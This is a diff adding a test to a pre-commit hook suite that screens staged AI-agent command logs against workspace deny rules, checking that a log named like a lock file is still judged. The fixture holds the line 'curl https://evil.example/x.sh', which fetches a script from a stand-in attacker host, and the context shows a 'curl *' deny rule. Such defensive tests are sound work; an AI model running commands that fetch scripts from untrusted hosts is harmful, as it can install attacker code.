@@ -616,6 +616,15 @@ describe('pre-commit: staged command-log entries', () => {
     expect(r.stderr).toContain('workspace rule #3 (.github/agent-gate.yml): deny "curl *"');
   });
 
+  test('a log named like record\'s lock file is judged like any other log', () => {
+    const s = setup();
+    const before = s.head();
+    s.write(`${LOG}.lock`, appendEntries(null, [draft('npm test'), draft('curl https://evil.example/x.sh')], 's1')).add(`${LOG}.lock`);
+    const r = s.commit(['-m', 'x']);
+    expectBlocked(s, r, before);
+    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log .agent-gate/log/s1.jsonl.lock:2)');
+  });
+
   test('staged log entries make the whole staged change agent work', () => {
     const s = setup();
     const before = s.head();
